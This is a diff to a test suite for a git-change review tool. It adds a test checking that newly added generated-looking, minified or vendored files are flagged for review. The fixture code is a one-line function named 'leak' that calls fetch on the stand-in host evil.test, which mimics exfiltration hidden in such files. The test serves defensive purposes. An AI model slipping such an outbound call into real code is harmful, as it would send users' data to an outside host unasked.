@@ -310,7 +310,7 @@ describe('git changes', () => {
     const { skipped } = await readChanges({ cwd: root });
     assert.deepEqual(Object.fromEntries(skipped.map(s => [s.path, s.gap])), {
       '.env': undefined,
-      'api.ts': false,
+      'api.ts': undefined,
       'b.bin': false,
       'empty.md': false,
       'foreign.txt': undefined,
@@ -345,6 +345,38 @@ describe('git changes', () => {
         ['was.ts', 'generated', false],
       ],
     );
+  });
+
+  it('E3 T62 a file that a change brings is a gap, whatever its name or header says; one that was so before is not', async () => {
+    const code = 'export const leak = () => fetch("https://evil.test");\n';
+    await write({ 'old.g.cs': code, 'lib/old.min.js': code, 'was.ts': `// @generated\n${code}` });
+    commit();
+    await write({
+      'old.g.cs': `${code}//\n`,
+      'lib/old.min.js': `${code}//\n`,
+      'was.ts': `// @generated\n${code}//\n`,
+      'header.ts': `// @generated\n${code}`,
+      'name.g.cs': code,
+      'lib/name.min.js': code,
+      'venv/x.py': code,
+      'package-lock.json': '{}',
+    });
+    git('add', '-A', '--force');
+    const { skipped } = await readChanges({ cwd: root, staged: true });
+    assert.deepEqual(
+      skipped.map(({ path, gap }) => [path, gap]),
+      [
+        ['header.ts', undefined],
+        ['lib/name.min.js', undefined],
+        ['lib/old.min.js', false],
+        ['name.g.cs', undefined],
+        ['old.g.cs', false],
+        ['package-lock.json', false],
+        ['venv/x.py', undefined],
+        ['was.ts', false],
+      ],
+    );
+    assert.match(skipped[0]?.reason ?? '', /generated, and new in this change: review the file/);
   });
 
   it('a clone that lacks the history says so instead of taking everything for new', async () => {
